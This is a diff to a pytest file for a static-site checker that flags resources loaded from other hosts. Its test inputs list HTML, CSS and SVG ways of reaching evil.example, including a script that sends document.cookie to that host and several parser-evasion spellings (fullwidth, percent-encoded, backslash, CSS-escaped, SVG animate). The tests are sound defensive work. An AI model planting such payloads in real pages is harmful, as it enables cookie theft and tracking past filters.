@@ -245,6 +245,26 @@ def test_the_browser_sees_the_build_at_its_real_address_with_its_content_types(t
     '<a href="/" ping="https://evil.example/track">x</a>',
     "<script>fetch('https://evil.example/?' + document.cookie)</script>",
     '<iframe srcdoc="&lt;img src=&quot;https://evil.example/i.png&quot;&gt;"></iframe>',
+    # Spellings and places a regex or html.parser missed (issue 25, point 7):
+    '<img src="https://evil.example/url(x).png" alt="">',                       # "url(" inside an address
+    '<img alt=">" src="https://evil.example/alt.png">',                         # a ">" in an earlier attribute
+    '<!-- --!><img src="https://evil.example/comment.png" alt=""> -->',         # a comment closed by "--!>"
+    '<noscript><img src="https://evil.example/noscript.png" alt=""></noscript>',  # for readers without scripts
+    '<div><template shadowrootmode="open"><img src="https://evil.example/s.png" alt=""></template></div>',
+    '<img src="//evil.example/x.png" alt="">',
+    '<img src="https://ｅｖｉｌ.example/fullwidth.png" alt="">',
+    '<img src="https://evil%2Eexample/percent.png" alt="">',
+    '<img src="https:\\\\evil.example\\backslash.png" alt="">',
+    '<img src="HTTPS://EVIL.EXAMPLE./upper-dot.png" alt="">',
+    '<p style="background:url(ht\\74ps://evil.example/escaped.png)">x</p>',
+    '<style>/* x */ a { background: image-set("https://evil.example/set.png" 1x); }</style>',
+    '<style>@import url(//evil.example/i.css);</style>',
+    '<svg><set attributeName="href" to="https://evil.example/set.png"/></svg>',
+    '<svg><image href="/ok.png"><animate attributeName="xlink:href" values="/ok.png;https://evil.example/a.png"/>'
+    '</image></svg>',
+    '<svg><rect fill="url(https://evil.example/p.svg#p)" width="1" height="1"/></svg>',
+    '<svg><use xlink:href="https://evil.example/sprite.svg#i"/></svg>',
+    '<link rel="icon" href="https://evil.example/favicon.ico">',
 ])
 def test_the_hosts_gate_reads_every_way_a_page_loads_from_another_host(tmp_path, markup):
     for name in ("index.html", "autre/page/index.html"):
@@ -261,3 +281,26 @@ def test_the_hosts_gate_reads_standalone_svg_files(tmp_path):
                                        "</svg>", encoding="utf-8")
     problems = browsergate.static_third_party(Site(tmp_path, "https://blog.example.org"))
     assert [p.file for p in problems] == ["logo.svg"]
+
+
+@pytest.mark.parametrize("name, text", [
+    ("theme/css/style.css", "a { background: url(ht\\74ps://evil.example/escaped.png); }"),
+    ("theme/css/style.css", '/* url(/ok.png) */ @import "https://evil.example/font.css";'),
+    ("images/anime.svg", '<svg xmlns="http://www.w3.org/2000/svg"><image href="/ok.png"><set attributeName="href" '
+                         'to="https://evil.example/set.png"/></image></svg>'),
+    ("extra/page.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="//evil.example/x.png"/></body>'
+                         "</html>"),
+])
+def test_the_hosts_gate_reads_every_file_a_browser_renders(tmp_path, name, text):
+    write(tmp_path, {name: text, "index.html": "<!DOCTYPE html><title>x</title>"})
+    problems = browsergate.static_third_party(Site(tmp_path, "https://blog.example.org"))
+    assert [(p.file, "evil.example" in p.message) for p in problems] == [(name, True)], problems
+
+
+def test_the_sites_own_host_in_any_spelling_is_not_another_host(tmp_path):
+    markup = ('<img src="https://BLOG.example.org./a.png" alt=""><img src="//blog.example.org/b.png" alt="">'
+              '<img src="https:\\\\blog.example.org\\c.png" alt=""><img src="/d.png" alt="">'
+              '<a href="https://other.example/">un lien se clique</a><link rel="alternate" href="https://o.example/f">')
+    write(tmp_path, {"index.html": f"<!DOCTYPE html><html lang=fr><head><title>x</title></head><body>{markup}"
+                                   "</body></html>"})
+    assert browsergate.static_third_party(Site(tmp_path, "https://blog.example.org")) == []
